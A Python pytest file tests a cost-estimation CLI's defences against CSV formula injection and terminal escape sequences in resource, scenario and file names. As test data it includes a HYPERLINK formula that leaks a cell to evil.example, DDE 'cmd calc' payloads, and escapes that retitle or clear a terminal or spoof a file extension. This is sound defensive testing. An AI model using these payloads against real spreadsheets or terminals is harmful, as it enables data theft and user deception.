"""Class 5, output that cannot attack its reader: no CSV cell starts a formula (OWASP's
"CSV Injection": = + - @ tab and carriage return get a leading quote), and no control character
from a file (a scenario's name, a resource's, a YAML key) reaches the terminal raw, in any
format or error line. Text with rich's markup (`[/bold]`, `[link=...]`) is shown as written."""

from __future__ import annotations

import csv
import io
import json

import pytest
from hostile_cli import child, cli, stack_text, write

from indexplan.render.csvout import FORMULA_STARTS
from indexplan.render.markdown import inline

# Names a spreadsheet would run, or a terminal obey.
FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\uff1d1+1",  # a full-width equals sign
)
ESCAPES = (
    "\x1b]0;pwned\x07",  # sets the terminal's title
    "\x1b[2J\x1b[H",  # clears the screen
    "\x1b]8;;http://evil.example\x1b\\link\x1b]8;;\x1b\\",  # a hyperlink
    "right\u202etxt.exe",  # reverses what follows
    "bell\x07 back\x08 del\x7f csi\x9b31m",
)
MARKUP = "[/] [/bold] [link=http://evil.example]rich markup[/link]"  # `[/]` alone: a crash in rich
RAW = ("\x1b", "\x07", "\x08", "\x7f", "\x9b", "\u202e", "\r")


def preview_named(tmp_path, names) -> object:  # type: ignore[no-untyped-def]
    """A preview of one S3 bucket per name (each with a region, so each is priced)."""
    steps = []
    for i, name in enumerate(names):
        urn = f"urn:pulumi:p::shop::aws:sqs/queue:Queue::{name}"
        inputs = {"region": "us-east-1", "name": f"q{i}"}
        steps.append(
            {
                "op": "create",
                "urn": urn,
                "newState": {"type": "aws:sqs/queue:Queue", "inputs": inputs},
            }
        )
    return write(tmp_path / "p.json", json.dumps({"steps": steps}))


def scenario_named(tmp_path, name: str) -> object:  # type: ignore[no-untyped-def]
    doc = {"name": name, "description": name, "source": name, "traffic": {"egress": "1 TB/month"}}
    return write(tmp_path / "s.yaml", json.dumps(doc))  # JSON is YAML: any string, quoted


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def assert_no_formula(text: str) -> None:
    for cell in cells(text):
        assert not cell.lstrip(" ").startswith(FORMULA_STARTS), repr(cell)


def assert_nothing_raw(text: str) -> None:
    assert not any(c in text for c in RAW), repr(text[:300])


def test_estimate_csv_cells_cannot_start_a_formula(tmp_path):
    preview = preview_named(
        tmp_path, [f.replace("\t", "").replace("\r", "") or "x" for f in FORMULAS]
    )
    scenario = scenario_named(tmp_path, FORMULAS[0])
    out = cli("estimate", "--from-preview", preview, "-s", scenario, "-f", "csv").ok()
    assert_no_formula(out)
    assert_nothing_raw(out)
    names = {row["resource"] for row in csv.DictReader(io.StringIO(out))}
    # the formula is kept, as text: a quote in front, nothing dropped
    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"click")' in names


@pytest.mark.parametrize("value", FORMULAS)
def test_every_formula_start_is_neutralised(value):
    from indexplan.render.csvout import render_csv

    (cell,) = [c for c in cells(render_csv(["k"], [{"k": value}]))[1:]]
    assert cell.startswith("'") and not cell.lstrip(" ").startswith(FORMULA_STARTS)


def test_numbers_stay_numbers_in_csv():
    from indexplan.render.csvout import render_csv

    assert render_csv(["a", "b"], [{"a": -1.5, "b": 0}]) == "a,b\n-1.5,0\n"


def test_check_csv_cannot_start_a_formula(tmp_path):
    # The stack file's path is the violation's resource: a file may be named anything.
    path = write(tmp_path / "=cmd|' calc'!A0.yaml", stack_text("  app:password: hunter2\n"))
    run = cli("check", path, "-f", "csv")
    assert run.code == 1, run.err
    assert_no_formula(run.out)
    assert "hunter2" not in run.out


@pytest.mark.parametrize("fmt", ["table", "markdown", "json", "csv"])
@pytest.mark.parametrize("name", ESCAPES)
def test_no_control_character_reaches_the_terminal(tmp_path, fmt, name):
    preview = preview_named(tmp_path, [name.replace("::", ":")])
    scenario = scenario_named(tmp_path, name)
    out = cli("estimate", "--from-preview", preview, "-s", scenario, "-f", fmt).ok()
    assert_nothing_raw(out)
    if fmt == "json":
        data = json.loads(out)  # still valid JSON, and the name is exactly the one written
        assert data["scenario"] == name


@pytest.mark.parametrize("fmt", ["table", "markdown", "json", "csv"])
def test_names_are_not_read_as_markup(tmp_path, fmt):
    out = cli(
        "estimate",
        "--from-preview",
        preview_named(tmp_path, [MARKUP]),
        "-s",
        scenario_named(tmp_path, MARKUP),
        "-f",
        fmt,
    ).ok()
    # as written, in every format; Markdown backslash-escapes its syntax, so that it renders as
    # written (s4 review finding 6)
    assert (inline(MARKUP) if fmt == "markdown" else MARKUP) in out


def test_yaml_keys_with_escapes_are_escaped_in_error_lines(tmp_path):
    path = write(tmp_path / "s.yaml", 'traffic: {egress: 1 TB}\n"\\e]0;x\\a\\e[2J": 1\n')
    line = cli("estimate", "--from-preview", preview_named(tmp_path, ["q"]), "-s", path).refused()
    assert_nothing_raw(line)
    # a key no user would type is not repeated at all (s8-review-sec finding 12), only its length
    assert "(a key of 10 characters): unknown key" in line


def test_a_narrow_terminal_gets_the_same_safety(tmp_path):
    preview = preview_named(tmp_path, [ESCAPES[0], ESCAPES[-1]])
    run = child("estimate", "--from-preview", preview, "-s", scenario_named(tmp_path, ESCAPES[1]))
    assert run.code == 0, run.err
    assert_nothing_raw(run.out)
    assert max(len(line) for line in run.out.splitlines()) <= 80  # COLUMNS=80 in the child


def test_printable_escapes_every_control_and_format_character():
    """Every code point Unicode (as this Python knows it) classes Cc, Cf, Cs, Zl or Zp is
    escaped, and nothing else is touched."""
    import sys
    import unicodedata

    from costmodel.errors import printable

    for code in range(sys.maxunicode + 1):
        char = chr(code)
        hostile = unicodedata.category(char) in ("Cc", "Cf", "Cs", "Zl", "Zp")
        assert (printable(char) != char) == hostile, hex(code)


def test_wrote_names_the_chart_escaped(tmp_path):
    # the one line on stderr goes through the same escaping as an error line (`\u202e`, as
    # printable writes it, not the raw character nor a made-up `\x202e`)
    folder = tmp_path / "\x1b]0;pwned\x07 right\u202egvs"
    folder.mkdir()
    run = cli("compare", "all-aws", "-f", "json", "--chart", folder / "c.svg")
    assert run.code == 0, run.err
    assert_nothing_raw(run.err)
    assert run.err == f"wrote {tmp_path}/\\x1b]0;pwned\\x07 right\\u202egvs/c.svg\n"


@pytest.mark.parametrize(
    "command",
    [("compare",), ("project", "--months", "3"), ("sweep", "--vary", "egress=1TB..2TB")],
)
def test_a_name_is_never_read_as_tex_in_a_chart(tmp_path, command):
    # matplotlib reads text between two dollars as mathtext: `\frac` alone fails to parse,
    # which was an internal error; the name is drawn as written
    stack = write(tmp_path / "Pulumi.a$\\frac$b.yaml", stack_text())
    chart = tmp_path / "c.svg"
    cli(*command, stack, "-f", "json", "--chart", chart).ok()
    assert "a$\\frac$b" in chart.read_text()


def test_json_keeps_the_reports_own_symbols_and_still_escapes_a_control_beside_them():
    # json_printable skips its scan when the text holds no other non-ASCII character than the
    # report's own symbols (≥, ≤, …); a control next to them must still be escaped
    from costmodel.errors import json_printable

    own = '{"total": "≥ $1.00", "note": "a … b ≤ c"}'
    assert json_printable(own) is own
    hostile = '{"total": "≥ $1.00", "name": "x\u202ey\x7f"}'
    assert json_printable(hostile) == '{"total": "≥ $1.00", "name": "x\\u202ey\\u007f"}'
